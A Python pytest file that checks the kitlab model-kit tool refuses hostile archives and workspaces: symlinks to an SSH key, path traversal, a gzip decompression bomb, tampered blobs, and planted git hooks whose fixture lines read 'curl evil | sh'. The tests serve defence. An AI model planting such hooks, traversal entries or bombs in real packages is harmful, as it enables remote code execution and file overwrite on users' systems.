"""Hostile kits and workspaces (issue 14, docs/hardening.md "Paths and symlinks" and "What a kit may
write"): every kit below is built by hand in a real local store, and every attack is driven through the
library and through the ``kitlab`` command. Each test checks the refusal *and* that nothing changed:
no file outside the destination, nothing half-unpacked, no secret in any message."""

from __future__ import annotations

import gzip
import io
import json
import os
import tarfile
from pathlib import Path

import pytest

from kitlab.cli import main
from kitlab.errors import Conflict, InvalidInput, KitlabError, PathOutsideRoot
from kitlab.modelkit.manifest import Descriptor, build_manifest
from kitlab.modelkit.pack import pack, plan_pack
from kitlab.modelkit.safe_extract import ExtractLimits
from kitlab.modelkit.store import LocalStore, encode_repo
from kitlab.modelkit.unpack import unpack
from kitlab.progress import ProgressEvent
from tests.support.hostile import (
    CODE_TAR,
    CONFIG_TYPE,
    DOCS_TAR,
    KEY,
    MODEL_TAR,
    SECRET,
    entry,
    list_by_hand,
    make_tar,
    nested,
    put_kit,
)
from tests.support.wire import sha256_of


def _listing(root: Path) -> dict[str, bytes | None]:
    return {
        str(p.relative_to(root)): (p.read_bytes() if p.is_file() and not p.is_symlink() else None)
        for p in sorted(root.rglob("*"))
    }


@pytest.fixture
def store(kitops_home: Path) -> LocalStore:
    return LocalStore(kitops_home)


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    outside = tmp_path / "outside" / ".ssh"
    outside.mkdir(parents=True)
    (outside / "id_rsa").write_text(KEY)
    return outside / "id_rsa"


def _cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    code = main([*argv])
    out = capsys.readouterr()
    return code, out.out + out.err


# ---------------------------------------------------------------------------------- paths and symlinks


@pytest.mark.parametrize("link", ["Kitfile", ".kitignore"])
def test_a_workspace_file_linked_outside_is_never_read(
    tmp_path: Path, store: LocalStore, secret_file: Path, capsys: pytest.CaptureFixture[str], link: str
) -> None:
    ctx = tmp_path / "ws" / "project"
    ctx.mkdir(parents=True)
    (ctx / "w.bin").write_bytes(b"weights")
    if link == ".kitignore":
        (ctx / "Kitfile").write_text("manifestVersion: 1.0.0\nmodel:\n  path: w.bin\n")
    (ctx / link).symlink_to(secret_file)
    with pytest.raises(KitlabError) as excinfo:
        plan_pack(ctx, store=store)
    assert SECRET not in str(excinfo.value)
    assert "PRIVATE" not in str(excinfo.value)
    assert "symbolic link" in str(excinfo.value)
    for argv in (["pack", str(ctx), "--plan"], ["pack", str(ctx), "-t", "x:v1"]):
        code, output = _cli(capsys, *argv)
        assert code == 1
        assert "symbolic link" in output
        assert SECRET not in output
        assert "PRIVATE" not in output
    assert store.list_kits() == []


def test_parser_errors_never_quote_the_file(tmp_path: Path, store: LocalStore) -> None:
    # A regular file that is not a Kitfile (here: a key copied in by mistake) is named, not echoed.
    ctx = tmp_path / "project"
    ctx.mkdir()
    (ctx / "Kitfile").write_text(KEY)
    with pytest.raises(KitlabError) as excinfo:
        plan_pack(ctx, store=store)
    assert "line 1" in str(excinfo.value)
    assert SECRET not in str(excinfo.value)
    assert "PRIVATE" not in str(excinfo.value)


@pytest.mark.parametrize("force", [False, True])
def test_init_never_writes_through_dangling_links(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], force: bool
) -> None:
    ws = tmp_path / "ws"
    (ws / "project").mkdir(parents=True)
    (ws / "project" / "train.py").write_text("print('hi')\n")
    (ws / "project" / ".env").write_text("API_KEY=x\n")  # makes the scan suggest a .kitignore
    outside = tmp_path / "outside"
    outside.mkdir()
    (ws / "project" / "Kitfile").symlink_to(outside / "planted-kitfile")
    (ws / "project" / ".kitignore").symlink_to(outside / "planted-ignore")
    argv = ["init", str(ws / "project"), "--root", str(ws)] + (["--force"] if force else [])
    code, output = _cli(capsys, *argv)
    assert list(outside.iterdir()) == []  # neither link's target was ever created
    if force:
        assert code == 0, output
        assert not (ws / "project" / "Kitfile").is_symlink()
        assert "manifestVersion" in (ws / "project" / "Kitfile").read_text()
        assert (ws / "project" / ".kitignore").is_symlink()  # the user's .kitignore is never touched
    else:
        assert code == 1
        assert "already exists" in output
        assert (ws / "project" / "Kitfile").is_symlink()


def _two_layer_kit(store: LocalStore) -> None:
    model = make_tar([("models", None), ("models/w.bin", b"w" * 4096)])
    docs = make_tar([("README.md", b"# readme\n")])
    entries = {"model": entry("models/w.bin", model), "docs": [entry("README.md", docs)]}
    put_kit(store, "two", entries, [(MODEL_TAR, model), (DOCS_TAR, docs)])


def test_destination_swapped_for_a_symlink_between_layers_stays_inside(
    tmp_path: Path, store: LocalStore
) -> None:
    _two_layer_kit(store)
    root = tmp_path / "ws"
    root.mkdir()
    dest = root / "copy"
    outside = tmp_path / "outside"
    outside.mkdir()
    swapped = []

    def swap_after_first_layer(event: ProgressEvent) -> None:
        if event.index == 0 and event.done == event.total and not swapped:
            dest.rename(root / "moved")
            dest.symlink_to(outside)
            swapped.append(True)

    unpack("hostile:two", dest, store=store, root=root, progress=swap_after_first_layer)
    assert swapped
    assert list(outside.iterdir()) == []
    assert (root / "moved" / "README.md").read_text() == "# readme\n"
    assert (root / "moved" / "models" / "w.bin").stat().st_size == 4096


def test_destination_that_is_a_symlink_out_of_the_root_is_refused(tmp_path: Path, store: LocalStore) -> None:
    _two_layer_kit(store)
    root = tmp_path / "ws"
    root.mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    (root / "copy").symlink_to(outside)
    with pytest.raises(PathOutsideRoot):
        unpack("hostile:two", root / "copy", store=store, root=root)
    assert list(outside.iterdir()) == []


# ---------------------------------------------------------------------------------- what a kit may write


def test_a_layer_writes_only_its_own_entry_path(
    tmp_path: Path, store: LocalStore, capsys: pytest.CaptureFixture[str]
) -> None:
    good = make_tar([("README.md", b"# fine\n")])
    model = make_tar(
        [("models", None), ("models/w.bin", b"w"), ("src", None), ("src/evil.py", b"import os\n")]
    )
    entries = {"model": entry("models/w.bin", model), "docs": [entry("README.md", good)]}
    put_kit(store, "stray", entries, [(DOCS_TAR, good), (MODEL_TAR, model)])
    dest = tmp_path / "out"
    with pytest.raises(PathOutsideRoot, match="holds 'src', outside that path"):
        unpack("hostile:stray", dest, store=store)
    assert not dest.exists()  # all or nothing: not even the first layer or the Kitfile
    code, output = _cli(capsys, "unpack", "hostile:stray", "-d", str(dest))
    assert code == 1
    assert "outside that path" in output
    assert not dest.exists()


def test_nothing_is_ever_written_into_git(tmp_path: Path, store: LocalStore, capsys) -> None:
    code_layer = make_tar(
        [
            ("train.py", b"print('train')\n"),
            (".git", None),
            (".git/hooks", None),
            (".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil | sh\n"),
            (".git/config", b"[core]\n\tfsmonitor = curl evil | sh\n"),
            ("sub/.GIT/config", b"x"),
        ]
    )
    put_kit(store, "git", {"code": [entry(".", code_layer)]}, [(CODE_TAR, code_layer)])
    for runner in ("library", "cli"):
        dest = tmp_path / runner
        (dest / ".git" / "hooks").mkdir(parents=True)
        (dest / ".git" / "config").write_text("[core]\n")
        before = _listing(dest / ".git")
        if runner == "library":
            result = unpack("hostile:git", dest, store=store, overwrite=True)
            assert sorted(result.refused) == [
                ".git",
                ".git/config",
                ".git/hooks",
                ".git/hooks/pre-commit",
                "sub/.GIT/config",
            ]
        else:
            code, output = _cli(capsys, "unpack", "hostile:git", "-d", str(dest), "--overwrite")
            assert code == 0, output
            assert ".git/hooks/pre-commit" in output  # reported
        assert _listing(dest / ".git") == before
        assert not (dest / "sub").exists()
        assert (dest / "train.py").read_text() == "print('train')\n"


def test_refused_entry_leaves_the_destination_as_it_was(tmp_path: Path, store: LocalStore) -> None:
    model = make_tar([("models", None), ("models/w.bin", b"new weights")])
    evil = make_tar([("../escape.txt", b"x")])
    entries = {"model": entry("models/w.bin", model), "code": [entry(".", evil)]}
    put_kit(store, "late", entries, [(MODEL_TAR, model), (CODE_TAR, evil)])
    dest = tmp_path / "out"
    (dest / "models").mkdir(parents=True)
    (dest / "models" / "w.bin").write_bytes(b"old weights")
    (dest / "notes.txt").write_text("mine")
    before = _listing(dest)
    with pytest.raises(PathOutsideRoot):
        unpack("hostile:late", dest, store=store, overwrite=True)
    assert _listing(dest) == before  # no Kitfile, the old model kept, no staging folder left
    assert not (tmp_path / "escape.txt").exists()


def test_a_tampered_blob_leaves_nothing(tmp_path: Path, store: LocalStore) -> None:
    _two_layer_kit(store)
    desc = store.resolve("hostile:two")
    layer = store.get_manifest(desc).layers[1]
    blob = store.blob_path(layer.digest)
    data = bytearray(blob.read_bytes())
    data[600] ^= 0xFF  # inside README.md's data: same size, other content
    blob.chmod(0o600)
    blob.write_bytes(bytes(data))
    dest = tmp_path / "out"
    with pytest.raises(InvalidInput, match="corrupt"):
        unpack("hostile:two", dest, store=store)
    assert not dest.exists()


def test_a_second_unpack_keeps_kits_overwrite_rules(tmp_path: Path, store: LocalStore) -> None:
    _two_layer_kit(store)
    dest = tmp_path / "out"
    unpack("hostile:two", dest, store=store)
    (dest / "README.md").write_text("edited")
    with pytest.raises(Conflict, match="already exists"):
        unpack("hostile:two", dest, store=store)
    assert (dest / "README.md").read_text() == "edited"
    result = unpack("hostile:two", dest, store=store, ignore_existing=True)
    assert (dest / "README.md").read_text() == "edited"
    assert result.layers[1].skipped_existing == ["README.md"]
    unpack("hostile:two", dest, store=store, overwrite=True)
    assert (dest / "README.md").read_text() == "# readme\n"
    assert sorted(p.name for p in dest.iterdir()) == ["Kitfile", "README.md", "models"]


def _gzip_bomb(size: int) -> bytes:
    """A gzip tar of one file of ``size`` zero bytes, compressed without holding it in memory."""
    info = tarfile.TarInfo("zeros.bin")
    info.size = size
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=9, mtime=0) as gz:
        gz.write(info.tobuf(format=tarfile.PAX_FORMAT))
        chunk = bytes(1 << 20)
        for _ in range(size >> 20):
            gz.write(chunk)
        gz.write(bytes(1024))  # end of archive
    return out.getvalue()


def test_expansion_is_capped_by_the_declared_size(tmp_path: Path, store: LocalStore) -> None:
    bomb = _gzip_bomb(72 << 20)
    assert len(bomb) < 200_000  # ~1000:1, as the 398 KB → 400 MB layer of issue 14
    entries = {"model": entry("zeros.bin", bomb)}
    put_kit(store, "bomb", entries, [("application/vnd.kitops.modelkit.model.v1.tar+gzip", bomb)])
    dest = tmp_path / "out"
    with pytest.raises(InvalidInput, match="decompression bomb"):
        unpack("hostile:bomb", dest, store=store)
    assert not dest.exists()
    # The cap is a setting of the library: a caller who trusts the kit may raise it.
    unpack("hostile:bomb", dest, store=store, limits=ExtractLimits(max_ratio=2000))
    assert (dest / "zeros.bin").stat().st_size == 72 << 20


@pytest.mark.parametrize("delta", [-5, -512, 4096])
def test_declared_layer_sizes_are_checked(tmp_path: Path, store: LocalStore, delta: int) -> None:
    model = make_tar([("w.bin", b"w" * 100)])
    put_kit(store, "size", {"model": entry("w.bin", model)}, [(MODEL_TAR, model)], sizes=[len(model) + delta])
    dest = tmp_path / "out"
    with pytest.raises(InvalidInput, match="declares"):
        unpack("hostile:size", dest, store=store)
    assert not dest.exists()


def test_deeply_nested_documents_spoil_only_their_own_kit(
    tmp_path: Path, store: LocalStore, capsys: pytest.CaptureFixture[str]
) -> None:
    _two_layer_kit(store)  # a good kit
    deep = 5000
    config = (
        f'{{"manifestVersion":"1.0.0","package":{{"name":"deep"}},"model":{{"parameters":{nested(deep)}}}}}'
    )
    config_desc = store.put_blob_bytes(config.encode(), media_type=CONFIG_TYPE)
    store.add_manifest("localhost/deepconfig", build_manifest(config_desc, [], "x"), ["v1"])
    manifest = (
        json.dumps(
            {
                "schemaVersion": 2,
                "config": {"mediaType": CONFIG_TYPE, "digest": config_desc.digest, "size": config_desc.size},
                "layers": [],
            }
        )[:-1]
        + f',"x":{nested(deep)}}}'
    )
    list_by_hand(store, "localhost/deepmanifest", "v1", manifest.encode())
    list_by_hand(store, "localhost/deeptags", "v1", b"{}")
    (store.storage / f"{encode_repo('localhost/deeptags')}-tags.json").write_text(nested(deep))

    kits = {k.repo: k for k in store.list_kits()}
    assert kits["hostile"].error == ""
    assert kits["hostile"].tags == ["two"]
    for repo in ("deepconfig", "deepmanifest", "deeptags"):
        assert "nests deeper than" in kits[repo].error, repo
    code, output = _cli(capsys, "list")
    assert code == 0
    assert "hostile" in output
    assert "RecursionError" not in output
    for ref in ("deepconfig:v1", "deepmanifest:v1"):
        with pytest.raises(InvalidInput, match="nests deeper"):
            unpack(ref, tmp_path / "out", store=store)
        code, output = _cli(capsys, "unpack", ref, "-d", str(tmp_path / "out"))
        assert code == 1
        assert "nests deeper" in output
        code, output = _cli(capsys, "inspect", ref)
        assert code == 1
        assert "nests deeper" in output
    assert not (tmp_path / "out").exists()


def test_an_oversized_config_descriptor_is_refused_before_reading(tmp_path: Path, store: LocalStore) -> None:
    config_desc = store.put_blob_bytes(b"{}", media_type=CONFIG_TYPE)
    huge = Descriptor(CONFIG_TYPE, config_desc.digest, 10 << 30)
    store.add_manifest("localhost/huge", build_manifest(huge, [], "x"), ["v1"])
    (kit,) = store.list_kits()
    assert "at most" in kit.error
    with pytest.raises(InvalidInput, match="at most"):
        unpack("huge:v1", tmp_path / "out", store=store)


def test_stale_staging_folders_of_dead_unpacks_are_swept(tmp_path: Path, store: LocalStore) -> None:
    _two_layer_kit(store)
    dest = tmp_path / "out"
    stale = dest / ".kitlab-unpack-999999999-abcdef"
    (stale / "models").mkdir(parents=True)
    (stale / "models" / "half.bin").write_bytes(b"x")
    unpack("hostile:two", dest, store=store)
    assert sorted(p.name for p in dest.iterdir()) == ["Kitfile", "README.md", "models"]
    assert os.listdir(dest / "models") == ["w.bin"]


def test_a_tampered_raw_layer_leaves_nothing(tmp_path: Path, store: LocalStore) -> None:
    bundle = b"PK\x03\x04bundle"
    entries = {"mcpServers": [{"name": "srv", **entry("bundles/srv.mcpb", bundle)}]}
    put_kit(store, "raw", entries, [("application/vnd.kitops.modelkit.mcpb.v1.raw", bundle)])
    blob = store.blob_path(sha256_of(bundle))
    blob.chmod(0o600)
    blob.write_bytes(b"PK\x03\x04BUNDLE")  # same size, other bytes
    dest = tmp_path / "out"
    with pytest.raises(InvalidInput, match="corrupt"):
        unpack("hostile:raw", dest, store=store)
    assert not dest.exists()


@pytest.mark.parametrize("filepath", ["../../escape.bin", "/tmp/kitlab-abs.bin", ".git/hooks/pre-push"])
def test_modelpack_file_path_annotations_stay_inside(
    tmp_path: Path, store: LocalStore, filepath: str
) -> None:
    # A ModelPack without a Kitfile: unpack places each layer by its org.cncf.model.filepath annotation.
    layer = make_tar([(filepath.lstrip("/"), b"#!/bin/sh\n")])
    stored = store.put_blob_bytes(layer)
    desc = Descriptor(
        "application/vnd.cncf.model.weight.v1.tar",
        stored.digest,
        stored.size,
        {"org.cncf.model.filepath": filepath},
    )
    config = store.put_blob_bytes(
        b'{"descriptor":{}}', media_type="application/vnd.cncf.model.config.v1+json"
    )
    store.add_manifest("localhost/mp", build_manifest(config, [desc], "x"), ["v1"])
    dest = tmp_path / "a" / "out"
    if filepath.startswith(".git"):
        result = unpack("mp:v1", dest, store=store)
        assert result.refused == [".git/hooks/pre-push"]
        assert not (dest / ".git").exists()
    else:
        with pytest.raises(PathOutsideRoot):
            unpack("mp:v1", dest, store=store)
        assert not dest.exists()
    assert not (tmp_path / "escape.bin").exists()
    assert not Path("/tmp/kitlab-abs.bin").exists()


def test_a_fifo_named_kitfile_is_refused_without_blocking(tmp_path: Path, store: LocalStore) -> None:
    ctx = tmp_path / "project"
    ctx.mkdir()
    os.mkfifo(ctx / "Kitfile")
    with pytest.raises(KitlabError, match="not a regular file"):
        plan_pack(ctx, store=store)


def test_kitignore_errors_name_the_line_never_the_pattern(tmp_path: Path, store: LocalStore) -> None:
    ctx = tmp_path / "project"
    ctx.mkdir()
    (ctx / "w.bin").write_bytes(b"w")
    (ctx / "Kitfile").write_text("manifestVersion: 1.0.0\nmodel:\n  path: w.bin\n")
    (ctx / ".kitignore").write_text(f"# keys\n[{SECRET}\n")
    with pytest.raises(KitlabError) as excinfo:
        plan_pack(ctx, store=store)
    message = str(excinfo.value) + json.dumps(excinfo.value.details)
    assert "syntax error in pattern (line 2)" in message
    assert SECRET not in message


def test_a_compressible_start_is_no_bomb_when_the_whole_layer_is_plausible(
    tmp_path: Path, store: LocalStore
) -> None:
    # 80 MiB of zeros (a zero-initialised tensor) followed by 8 MiB of random bytes: the start expands
    # ~1000:1, the layer as a whole ~10:1. Only the whole layer counts against the cap.
    zeros, noise = 80 << 20, os.urandom(8 << 20)
    info = tarfile.TarInfo("weights.bin")
    info.size = zeros + len(noise)
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=1, mtime=0) as gz:
        gz.write(info.tobuf(format=tarfile.PAX_FORMAT))
        for _ in range(zeros >> 20):
            gz.write(bytes(1 << 20))
        gz.write(noise)
        gz.write(bytes(512 - (info.size % 512 or 512)) + bytes(1024))
    layer = out.getvalue()
    entries = {"model": entry("weights.bin", layer)}
    put_kit(store, "zeros", entries, [("application/vnd.kitops.modelkit.model.v1.tar+gzip", layer)])
    unpack("hostile:zeros", tmp_path / "out", store=store)
    assert (tmp_path / "out" / "weights.bin").stat().st_size == info.size


def test_a_folder_swapped_for_a_link_during_pack_is_not_followed(tmp_path: Path, store: LocalStore) -> None:
    ctx = tmp_path / "project"
    (ctx / "models").mkdir(parents=True)
    (ctx / "models" / "w.bin").write_bytes(b"w" * 1000)
    (ctx / "data" / "sub").mkdir(parents=True)
    (ctx / "data" / "sub" / "x.csv").write_text("a,b\n1,2\n")
    (ctx / "Kitfile").write_text(
        "manifestVersion: 1.0.0\nmodel:\n  path: models/w.bin\ndatasets:\n  - path: data\n"
    )
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x.csv").write_text(KEY)  # same name, other file: what a swapped link would reveal
    swapped: list[bool] = []

    def swap_before_the_dataset_layer(event: ProgressEvent) -> None:
        if event.item == "data" and not swapped:
            (ctx / "data" / "sub").rename(ctx / "data" / "sub.real")
            (ctx / "data" / "sub").symlink_to(outside)
            swapped.append(True)

    with pytest.raises(KitlabError, match="replaced while packing") as excinfo:
        pack(ctx, tags=["swap:v1"], store=store, progress=swap_before_the_dataset_layer)
    assert swapped
    assert SECRET not in str(excinfo.value)
    assert store.list_kits() == []
    assert not any(SECRET.encode() in blob.read_bytes() for blob in store.blobs_dir.iterdir())
